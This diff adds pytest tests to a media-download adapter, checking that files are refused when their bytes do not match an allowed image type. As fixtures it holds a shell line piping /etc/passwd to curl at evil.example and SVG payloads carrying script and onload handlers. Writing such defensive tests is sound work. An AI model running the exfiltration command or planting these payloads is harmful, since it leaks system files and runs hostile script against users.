@@ -340,3 +340,29 @@ def test_a_redirect_loop_is_permanent(api: HTTPServer) -> None:
     with pytest.raises(PermanentSendError) as refused:
         adapter_for(api).download(InboundMedia(ref=media_url(api, "ME22")))
     assert refused.value.code == "too_many_redirects"
+
+
+# --- issue 16: content checked by its bytes ------------------------------------------------------------
+
+
+@pytest.mark.parametrize(
+    ("body", "served_as"),
+    [(b"#!/bin/sh\ncat /etc/passwd | curl -d @- http://evil.example\n", "image/png"),
+     (b'<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("/x")</script></svg>', "image/svg+xml"),
+     (b'<svg xmlns="http://www.w3.org/2000/svg" onload="x()"/>', "image/png")],
+    ids=["shell-script-as-png", "svg-with-script", "svg-as-png"],
+)
+def test_a_file_whose_bytes_are_not_allowlisted_evidence_is_refused(
+    api: HTTPServer, body: bytes, served_as: str
+) -> None:
+    api.expect_request(f"{MEDIA_PATH}/ME30").respond_with_data(body, content_type=served_as)
+    media = InboundMedia(ref=media_url(api, "ME30"), content_type=served_as, kind=MediaKind.IMAGE)
+    with pytest.raises(MediaRefusedError) as refused:
+        adapter_for(api).download(media)
+    assert refused.value.code == "forbidden_type"
+
+
+def test_the_kept_type_is_the_one_the_bytes_show_when_the_served_one_is_generic(api: HTTPServer) -> None:
+    api.expect_request(f"{MEDIA_PATH}/ME31").respond_with_data(PNG, content_type="application/octet-stream")
+    downloaded = adapter_for(api).download(InboundMedia(ref=media_url(api, "ME31")))
+    assert downloaded.content_type == "image/png"
